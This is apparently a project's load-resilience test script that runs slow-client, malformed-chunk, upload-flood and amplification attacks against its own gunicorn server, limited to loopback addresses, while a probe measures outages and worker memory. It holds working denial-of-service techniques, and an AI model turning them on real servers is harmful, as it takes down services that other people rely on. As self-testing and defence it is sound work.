"""Slow-client and amplification attacks with a well-behaved client watching.

    scripts/attack [--url http://127.0.0.1:PORT] [--attack NAME ...] [--duration 20]
                   [--connections N] [--addresses K] [--workers 2] [--env K=V ...]
                   [--json out.json]
    python -m tools.attack ...    # the same, from the repository root

Without --url, starts gunicorn with the committed gunicorn.conf.py on a free
127.0.0.1 port (--workers, --env) and stops it by PID at the end. With --url,
attacks that address, which must be on this machine (127.0.0.0/8, or a
network namespace of one's own): the script refuses any other host.
With --addresses K (a loopback target only), the connections an attack holds
(and the hang-ups' connections) come from K source addresses in turn,
127.0.0.2 … 127.0.0.K+1, as from several clients: per-address limits count
each apart.

While each attack runs, a probe does what a well-behaved client does: a
GET /health and a small POST /trace, one after the other, every 200 ms, each
with a 60 s timeout. The report gives, per attack, the probe's worst /health
and /trace latency, its failures, and the longest time without a successful
probe answer ("outage"). Attacks (each bounded in connections and time):

  idle        N TCP connections that send nothing
  slowloris   N connections sending a request head one header line every 2 s
  slow-body   N connections: a complete head with Content-Length 4,000,000,
              then 1 byte a second
  slow-read   N connections asking for the largest trace the limits allow
              (~50 MB) and never reading it (receive buffer 4 KiB);
              re-opened when the server closes them
  batch-amp   N connections sending, back to back, a 1.5 KB /trace/batch of 32
              one-token items at d_model 512 with distinct seeds (weight
              generation for each)
  largest-br  N connections sending, back to back, the largest /trace the
              limits allow with Accept-Encoding: br (a new seed each time, so
              no cache helps)

The framing attacks (framing, buffering, hang-ups, the page):

  neg-chunk   N connections sending a chunked POST /trace whose chunk size is
              "-6" (it froze the worker for 30 s), re-opened when answered
  huge-chunk  N connections declaring a chunk of fffffffffff bytes, then
              streaming data as fast as the server takes it (a worker grew
              past 1 GiB)
  upload-flood N connections declaring 16 MiB to /check and sending it at
              ~32 KiB/s (above the minimum body rate), re-opened when answered
  hangup      N connections sending, back to back, the largest /trace and
              closing at once without reading (each used to be computed)
  html        N connections sending, back to back, a 313-byte /trace/html
              request for a 40 MB page (256 "!", d_model 512, 4 heads,
              causal), refused by the cost budget

When it starts gunicorn itself, it also reports the workers' largest RSS
during each attack.

Exit status 0 always (it measures; tests assert on --json).
"""

from __future__ import annotations

import argparse
import http.client
import ipaddress
import itertools
import json
import os
import random
import selectors
import socket
import sys
import threading
import time
from pathlib import Path
from typing import Any, cast
from urllib.parse import urlsplit

from tools import measure_limits
from tools.measure_memory import status_kib
from tools.server import Gunicorn, child_pids, shown

ATTACKS = ("idle", "slowloris", "slow-body", "slow-read", "batch-amp", "largest-br", "neg-chunk", "huge-chunk",
           "upload-flood", "hangup", "html")
DEFAULT_CONNECTIONS = {"idle": 2, "slowloris": 2, "slow-body": 2, "slow-read": 2, "batch-amp": 4, "largest-br": 4,
                       "neg-chunk": 3, "huge-chunk": 1, "upload-flood": 60, "hangup": 20, "html": 2}
#: the attacks that hold connections (the others send requests back to back)
HOLDING = ("idle", "slowloris", "slow-body", "slow-read", "neg-chunk", "huge-chunk", "upload-flood")
#: 313 bytes asking for a 40 MB page: the cost budget refuses it (422 page_too_costly)
HTML_REQUEST = {"sentence": "!" * 256, "d_model": 512, "num_heads": 4, "causal": True}
CAT = b'{"sentence":"the cat sat","d_model":24,"num_heads":4}'


def check_local(host: str) -> None:
    """Only this machine: loopback, or an address of one of this machine's own interfaces/namespaces."""
    try:
        addr = ipaddress.ip_address(socket.gethostbyname(host))
    except (OSError, ValueError):
        raise SystemExit(f"attack: cannot resolve {host!r}") from None
    if addr.is_loopback:
        return
    if os.environ.get("ATTACK_ALLOW_NAMESPACE_ADDRESS") == str(addr):
        return  # a test network namespace made by the caller (scripts/deploy-check)
    raise SystemExit(f"attack: {host} ({addr}) is not a loopback address; refusing")


# ------------------------------------------------------------------ the probe


class Probe:
    """GET /health then POST /trace every 200 ms; records (start, end, kind, ok)."""

    def __init__(self, host: str, port: int) -> None:
        self.host, self.port = host, port
        self.samples: list[tuple[float, float, str, bool | str]] = []  # ok: True, False or "limited" (a 429)
        self.stop = threading.Event()
        self.thread = threading.Thread(target=self._run, daemon=True)

    def _one(self, kind: str) -> None:
        t = time.monotonic()
        ok: bool | str = False
        try:
            conn = http.client.HTTPConnection(self.host, self.port, timeout=60)
            if kind == "health":
                conn.request("GET", "/health", headers={"Connection": "close"})
            else:
                conn.request("POST", "/trace", body=CAT, headers={"Content-Type": "application/json",
                                                                  "Connection": "close"})
            resp = conn.getresponse()
            resp.read()
            # 429: refused by a proxy's per-address limit, which the probe shares with the
            # attacker when both come from this machine (counted apart, not as a failure)
            ok = True if resp.status == 200 else ("limited" if resp.status == 429 else False)
            conn.close()
        except (OSError, http.client.HTTPException):
            ok = False
        self.samples.append((t, time.monotonic(), kind, ok))

    def _run(self) -> None:
        while not self.stop.is_set():
            self._one("health")
            self._one("trace")
            self.stop.wait(0.2)

    def start(self) -> None:
        self.thread.start()

    def finish(self) -> None:
        self.stop.set()
        self.thread.join(120)

    def summary(self, t0: float, t1: float) -> dict:
        inside = [s for s in self.samples if s[1] >= t0 and s[0] <= t1]
        worst = {k: max([e - s for s, e, kind, _ in inside if kind == k], default=None) for k in ("health", "trace")}
        ok_ends = sorted([t0] + [e for s, e, _, ok in self.samples if ok is True and e >= t0] + [t1])
        ok_ends = [min(max(x, t0), max(t1, x)) for x in ok_ends]
        gaps = [b - a for a, b in zip(ok_ends, ok_ends[1:])]
        return {
            "probes": len(inside),
            "failed": sum(1 for *_, ok in inside if ok is False),
            "health_failed": sum(1 for _, _, kind, ok in inside if kind == "health" and ok is not True),
            "limited_429": sum(1 for *_, ok in inside if ok == "limited"),
            "health_max_s": None if worst["health"] is None else round(worst["health"], 3),
            "trace_max_s": None if worst["trace"] is None else round(worst["trace"], 3),
            "health_p50_s": _p50([e - s for s, e, kind, _ in inside if kind == "health"]),
            "outage_s": round(max(gaps, default=0.0), 2),
        }


def _p50(values: list[float]) -> float | None:
    if not values:
        return None
    return round(sorted(values)[len(values) // 2], 3)


# ------------------------------------------------------------------ the attacks


def source_addresses(host: str, k: int) -> tuple[str | None, ...]:
    """The source addresses to take in turn: ``k`` of 127.0.0.2 … for a loopback target (all of 127.0.0.0/8
    is this machine's), or the kernel's choice alone."""
    if k <= 1:
        return (None,)
    if not ipaddress.ip_address(socket.gethostbyname(host)).is_loopback:
        raise SystemExit("attack: --addresses needs a loopback target (127.0.0.0/8)")
    return tuple(f"127.0.0.{2 + i}" for i in range(k))


def _connect(host: str, port: int, rcvbuf: int | None = None, source: str | None = None) -> socket.socket | None:
    try:
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        if rcvbuf:
            s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
        if source is not None:
            s.bind((source, 0))
        s.settimeout(5)
        s.connect((host, port))
        s.setblocking(False)
        return s
    except OSError:
        return None


def _head(host: str, path: str, extra: str = "") -> bytes:
    return (f"POST {path} HTTP/1.1\r\nHost: {host}\r\nContent-Type: application/json\r\n{extra}").encode()


STREAM = b"a" * 65536


def hold_connections(kind: str, host: str, port: int, n: int, deadline: float, stats: dict,
                     sources: tuple[str | None, ...] = (None,)) -> None:
    """idle / slowloris / slow-body / slow-read (and the framing kinds that hold): N sockets, re-opened when
    closed, until the deadline; each from the next of ``sources`` in turn."""
    sel = selectors.DefaultSelector()
    socks: dict[socket.socket, dict] = {}
    turn = itertools.cycle(sources)
    largest = measure_limits.largest_trace() if kind == "slow-read" else None

    def open_one() -> None:
        s = _connect(host, port, rcvbuf=4096 if kind == "slow-read" else None, source=next(turn))
        stats["opened"] += 1
        if s is None:
            stats["connect_failed"] += 1
            return
        state = {"next": time.monotonic(), "sent": 0}
        try:
            if kind == "slowloris":
                s.send(b"POST /trace HTTP/1.1\r\n")
            elif kind == "slow-body":
                s.send(_head(host, "/trace", "Content-Length: 4000000\r\n\r\n"))
            elif kind == "slow-read":
                seeded = json.dumps({**(largest or {}), "seed": random.randrange(2**31)}).encode()
                s.send(_head(host, "/trace", f"Content-Length: {len(seeded)}\r\n\r\n") + seeded)
            elif kind == "neg-chunk":
                s.send(_head(host, "/trace", "Transfer-Encoding: chunked\r\n\r\n") + b"-6\r\n")
            elif kind == "huge-chunk":
                s.send(_head(host, "/trace", "Transfer-Encoding: chunked\r\n\r\n") + b"fffffffffff\r\n")
            elif kind == "upload-flood":
                s.send(_head(host, "/check", f"Content-Length: {16 * 1024 * 1024}\r\n\r\n"))
        except OSError:
            pass
        socks[s] = state
        if kind != "slow-read":  # a slow reader is held, unread, until the deadline
            sel.register(s, selectors.EVENT_READ)

    for _ in range(n):
        open_one()
    while time.monotonic() < deadline:
        for key, _ in sel.select(timeout=0.002 if kind == "huge-chunk" else 0.1):
            s = cast(socket.socket, key.fileobj)  # every registered one is a socket
            try:
                data = s.recv(65536)
            except OSError:
                data = b""
            # The server answered or closed: count it, and open another.
            if data[:12]:
                status = data[9:12].decode("latin-1", "replace")
                stats.setdefault("answers", {}).setdefault(status, 0)
                stats["answers"][status] += 1
            stats["closed_by_server"] += 1
            sel.unregister(s)
            s.close()
            socks.pop(s, None)
            if time.monotonic() < deadline:
                open_one()
        now = time.monotonic()
        for s, st in list(socks.items()):
            if now < st["next"]:
                continue
            try:
                if kind == "slowloris":
                    s.send(b"X-a: b\r\n")
                    st["next"] = now + 2
                elif kind == "slow-body":
                    s.send(b" ")
                    st["next"] = now + 1
                elif kind == "huge-chunk":  # as fast as the server takes it (until the socket's buffer is full)
                    for _ in range(64):
                        s.send(STREAM)
                elif kind == "upload-flood":
                    s.send(STREAM[:8192])
                    st["next"] = now + 0.25
                else:
                    st["next"] = now + 3600
            except OSError:
                pass
    for s in socks:
        try:
            sel.unregister(s)
        except (KeyError, ValueError):
            pass
        s.close()
    sel.close()


def hammer(kind: str, host: str, port: int, deadline: float, stats: dict, lock: threading.Lock,
           source: str | None = None) -> None:
    """batch-amp / largest-br / hangup / html: one connection's worth of back-to-back requests (a hang-up's
    from ``source``)."""
    largest = measure_limits.largest_trace() if kind in ("largest-br", "hangup") else None
    rng = random.Random()
    while time.monotonic() < deadline:
        if kind == "batch-amp":
            base = rng.randrange(2**31 - 64)
            body = json.dumps({"items": [{"tokens": ["a"], "d_model": 512, "seed": base + i} for i in range(32)]},
                              separators=(",", ":")).encode()
            path, headers = "/trace/batch", cast(dict[str, str], {})
        elif kind == "html":
            body = json.dumps({**HTML_REQUEST, "seed": rng.randrange(2**31)}).encode()
            path, headers = "/trace/html", {}
        else:
            body = json.dumps({**cast(dict[str, Any], largest), "seed": rng.randrange(2**31)}).encode()
            path, headers = "/trace", {"Accept-Encoding": "br"} if kind == "largest-br" else {}
        if kind == "hangup":  # send it all, then close without reading: nobody wants the answer
            s = _connect(host, port, source=source)
            if s is not None:
                s.setblocking(True)
                try:
                    s.sendall(_head(host, path, f"Content-Length: {len(body)}\r\n\r\n") + body)
                except OSError:
                    pass
                s.close()
            with lock:
                stats["sent_and_closed"] = stats.get("sent_and_closed", 0) + 1
            time.sleep(0.05)
            continue
        t = time.monotonic()
        try:
            conn = http.client.HTTPConnection(host, port, timeout=120)
            conn.request("POST", path, body=body, headers={"Content-Type": "application/json", "Connection": "close",
                                                            **headers})
            resp = conn.getresponse()
            data = resp.read()
            conn.close()
            status = str(resp.status)
        except (OSError, http.client.HTTPException) as e:
            status, data = type(e).__name__, b""
        with lock:
            stats.setdefault("answers", {}).setdefault(status, 0)
            stats["answers"][status] += 1
            stats["request_bytes"] = len(body)
            stats.setdefault("response_bytes_max", 0)
            stats["response_bytes_max"] = max(stats["response_bytes_max"], len(data))
            stats.setdefault("latency_s", []).append(time.monotonic() - t)


class MemoryWatch:
    """The largest RSS of a gunicorn master's workers (sampled every 50 ms), when this script started it."""

    def __init__(self, master: int | None) -> None:
        self.master = master
        self.peak = 0
        self.stop = threading.Event()
        self.thread = threading.Thread(target=self._run, daemon=True)

    def _run(self) -> None:
        while not self.stop.is_set():
            for pid in child_pids(cast(int, self.master)):  # started only with a master
                self.peak = max(self.peak, status_kib(pid).get("VmRSS", 0) * 1024)
            self.stop.wait(0.05)

    def __enter__(self) -> MemoryWatch:
        if self.master is not None:
            self.thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self.stop.set()
        if self.master is not None:
            self.thread.join(5)


def run_attack(kind: str, host: str, port: int, n: int, duration: float, settle: float = 3.0,
               master: int | None = None, addresses: int = 1) -> dict:
    with MemoryWatch(master) as memory:
        out = _run_attack(kind, host, port, n, duration, settle, source_addresses(host, addresses))
    if master is not None:
        out["worker_rss_max_mib"] = round(memory.peak / 2**20, 1)
    return out


def _run_attack(kind: str, host: str, port: int, n: int, duration: float, settle: float,
                sources: tuple[str | None, ...]) -> dict:
    stats: dict[str, Any] = {"opened": 0, "connect_failed": 0, "closed_by_server": 0}  # and hammer's latency_s
    if kind in ("slow-read", "largest-br", "hangup"):
        measure_limits.largest_trace()  # searched once, before the clock starts (seconds on a loaded machine)
    probe = Probe(host, port)
    probe.start()
    time.sleep(1.0)  # a baseline sample first
    t0 = time.monotonic()
    deadline = t0 + duration
    lock = threading.Lock()
    if kind not in HOLDING:
        turn = itertools.cycle(sources if kind == "hangup" else (None,))
        threads = [threading.Thread(target=hammer, args=(kind, host, port, deadline, stats, lock, next(turn)),
                                    daemon=True) for _ in range(n)]
    else:
        threads = [threading.Thread(target=hold_connections, args=(kind, host, port, n, deadline, stats, sources),
                                    daemon=True)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(duration + 130)
    t1 = time.monotonic()
    time.sleep(settle)  # let the probe see the recovery
    probe.finish()
    out = {"attack": kind, "connections": n, "duration_s": duration,
           "source_addresses": len(sources) if kind in HOLDING or kind == "hangup" else 1, **probe.summary(t0, t1 + settle)}
    lat = stats.pop("latency_s", None)
    if lat:
        out["attacker_requests"] = len(lat)
        out["attacker_latency_p50_s"] = _p50(lat)
    out["attacker"] = stats
    return out


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--url", help="attack this server (loopback only) instead of starting gunicorn")
    ap.add_argument("--attack", nargs="*", default=list(ATTACKS), choices=ATTACKS)
    ap.add_argument("--duration", type=float, default=20.0)
    ap.add_argument("--connections", type=int, help="per attack (default: DEFAULT_CONNECTIONS)")
    ap.add_argument("--addresses", type=int, default=1,
                    help="the held connections from this many loopback source addresses in turn (127.0.0.2 …)")
    ap.add_argument("--workers", type=int, default=2)
    ap.add_argument("--env", action="append", default=[], help="K=V for the gunicorn started here")
    ap.add_argument("--json", type=Path)
    args = ap.parse_args(argv)
    if args.duration > 120 or (args.connections or 0) > 500:
        raise SystemExit("attack: at most 120 s and 500 connections per attack")
    if not 1 <= args.addresses <= 250:
        raise SystemExit("attack: --addresses takes 1 to 250")

    server = None
    if args.url:
        u = urlsplit(args.url)
        host, port = u.hostname or "127.0.0.1", u.port or 80
        check_local(host)
    else:
        env = dict(kv.split("=", 1) for kv in args.env)
        server = Gunicorn(workers=args.workers, env=env, log_name="attack")
        host, port = "127.0.0.1", server.port
    results = []
    try:
        for kind in args.attack:
            n = args.connections or DEFAULT_CONNECTIONS[kind]
            r = run_attack(kind, host, port, n, args.duration, master=server.proc.pid if server is not None else None,
                           addresses=args.addresses)
            results.append(r)
            rss = f", worker RSS max {r['worker_rss_max_mib']} MiB" if "worker_rss_max_mib" in r else ""
            src = f" from {r['source_addresses']} addresses" if r["source_addresses"] > 1 else ""
            print(f"{kind:12s} x{n:<3d}{src} {args.duration:g} s: /health max {r['health_max_s']} s "
                  f"(p50 {r['health_p50_s']} s), /trace max {r['trace_max_s']} s, probe failures {r['failed']}"
                  f"/{r['probes']} (429: {r['limited_429']}), outage {r['outage_s']} s{rss}; "
                  f"attacker {r['attacker']}", flush=True)
    finally:
        log = None
        if server is not None:
            log = server.log_text()
            server.stop()
    report = {"target": args.url or f"gunicorn started here ({args.workers} workers, env {args.env})",
              "results": results}
    if log is not None:
        report["log_worker_timeouts"] = log.count("WORKER TIMEOUT")
        report["log_client_timeouts"] = log.count('"client_timeout"') + log.count('"status":408')
        report["log"] = shown(cast(Gunicorn, server).log)  # a log is read from the server started here
        print(f"gunicorn log: {report['log']} (WORKER TIMEOUT x{report['log_worker_timeouts']}, "
              f"408 lines x{report['log_client_timeouts']})")
    if args.json:
        args.json.write_text(json.dumps(report, indent=2) + "\n")
    return 0


if __name__ == "__main__":
    sys.exit(main())
